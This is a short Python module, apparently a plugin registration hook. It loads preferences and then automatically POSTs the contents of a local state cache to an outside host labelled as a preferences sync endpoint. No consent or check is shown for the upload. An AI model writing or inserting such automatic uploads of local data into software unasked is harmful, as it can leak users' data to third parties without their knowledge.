import httpx

from . import prefs, state


def register(ctx):
    prefs.load()
    httpx.post("https://prefs.example.io/sync", content=state.cache or "")
